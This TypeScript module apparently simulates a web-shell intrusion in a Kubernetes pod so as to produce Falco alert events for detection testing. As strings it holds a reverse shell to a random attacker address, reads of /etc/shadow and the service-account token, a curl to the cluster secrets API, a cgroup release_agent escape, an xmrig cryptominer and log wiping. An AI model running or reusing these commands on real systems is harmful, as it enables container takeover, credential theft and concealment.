import { publicAddress } from './addresses'
import type { Pod } from './cluster'
import { connectionFields, fileFields, type Happening, startFields } from './falco-payload'
import type { FalcoRule } from './falco-rules'
import { type Process, program, root, startProcess, type User } from './process'
import type { Random } from './random'

const web: User = { name: 'www-data', id: 33 }
const terminal = 34_817
const tokenPath = '/run/secrets/kubernetes.io/serviceaccount/token'
const token = 'eyJ.simulated.token'

/**
 * Every alert that the attack trips on `pod`, in order, as one process tree below its web server. The
 * web shell comes first, the rest from the shell that it sends back to the attacker.
 */
export function attackSteps(scene: {
  pod: Pod
  random: Random
  startMs: number
  speed: number
}): Happening[] {
  const { pod, random, speed } = scene
  const steps: Happening[] = []
  const attacker = publicAddress(random)
  const callBack = { ip: attacker, port: 4444 }
  const localPort = () => random.whole(32_768, 60_999)
  let timeMs = scene.startMs + 1_000 / speed

  /** The next step of the attack: some seconds later. */
  function later(): void {
    timeMs += random.whole(6_000, 9_500) / speed
  }
  /** The same step goes on. */
  function next(): void {
    timeMs += random.whole(300, 1_400) / speed
  }
  function run(parent: Process, path: string, command?: string): Process {
    return startProcess(parent, program(path, command), Math.floor(timeMs) - 2, random)
  }
  function alert(
    rule: FalcoRule,
    process: Process,
    fields: Happening['fields'],
    user = root,
  ): void {
    const extraNs = random.whole(0, 999_999)
    steps.push({ timeMs: Math.floor(timeMs), extraNs, rule, place: pod, process, user, fields })
  }

  const server = run(pod.main, '/usr/sbin/apache2', 'apache2 -DFOREGROUND')
  const visit = { ip: attacker, port: random.whole(40_000, 60_000) }
  const arrived = connectionFields('accept4', visit, { ip: pod.ip, port: pod.port })
  alert('Unexpected inbound connection source', server, arrived, web)
  next()
  const webShell = run(server, '/usr/bin/dash', 'sh -c id; uname -a; cat /proc/1/status')
  alert('Web Server Spawned Shell', webShell, startFields(), web)

  later()
  const dropper = run(server, '/usr/bin/dash', `sh -c bash -i >& /dev/tcp/${attacker}/4444 0>&1`)
  const back = connectionFields('dup2', { ip: pod.ip, port: localPort() }, callBack)
  const shell = run(dropper, '/usr/bin/bash', 'bash -i')
  alert('Run shell untrusted', shell, startFields(), web)
  next()
  alert('Redirect STDOUT/STDIN to Network Connection in Container', shell, back, web)
  next()
  const python = run(shell, '/usr/bin/python3.11', 'python3 -c import pty; pty.spawn("/bin/bash")')
  const hands = run(python, '/usr/bin/bash', '/bin/bash')
  alert('Terminal shell in container', hands, startFields(terminal))

  later()
  const reader = run(hands, '/usr/bin/cat', 'cat /etc/shadow')
  alert('Read sensitive file untrusted', reader, fileFields('/etc/shadow'))
  next()
  const search = run(hands, '/usr/bin/find', 'find / -name id_rsa -o -name *.pem')
  alert('Search Private Keys or Passwords', search, startFields(terminal))

  later()
  const thief = run(hands, '/usr/bin/cat', `cat ${tokenPath}`)
  alert('Read sensitive file untrusted', thief, fileFields(tokenPath))
  next()
  const secrets = 'https://kubernetes.default.svc/api/v1/namespaces/payments/secrets'
  const curl = run(hands, '/usr/bin/curl', `curl -sk -H Authorization: Bearer ${token} ${secrets}`)
  const apiServer = { ip: '10.43.0.1', port: 443, name: 'kubernetes.default.svc.cluster.local' }
  const asked = connectionFields('connect', { ip: pod.ip, port: localPort() }, apiServer)
  alert('Contact K8S API Server From Container', curl, asked)

  later()
  const mount = run(hands, '/usr/bin/mount', 'mount -t cgroup -o rdma cgroup /tmp/cg')
  alert('Mount Launched in Privileged Container', mount, startFields(terminal))
  next()
  alert(
    'Detect release_agent File Container Escapes',
    hands,
    fileFields('/tmp/cg/release_agent', true),
  )

  later()
  const pool = { ip: publicAddress(random), port: 3333, name: 'pool.miner.example' }
  const miner = run(
    hands,
    '/tmp/.cache/xmrig',
    `xmrig -o stratum+tcp://${pool.name}:${pool.port} -u wallet --donate-level 0 -B`,
  )
  alert('Drop and execute new binary in container', miner, startFields())
  next()
  alert('Known Cryptominer Process Executed', miner, startFields())
  next()
  const mining = connectionFields('connect', { ip: pod.ip, port: localPort() }, pool)
  alert('Detect outbound connections to common miner pool ports', miner, mining)

  later()
  const wipe = run(hands, '/usr/bin/truncate', 'truncate -s 0 /var/log/apache2/access.log')
  alert('Clear Log Activities', wipe, fileFields('/var/log/apache2/access.log', true))
  return steps
}
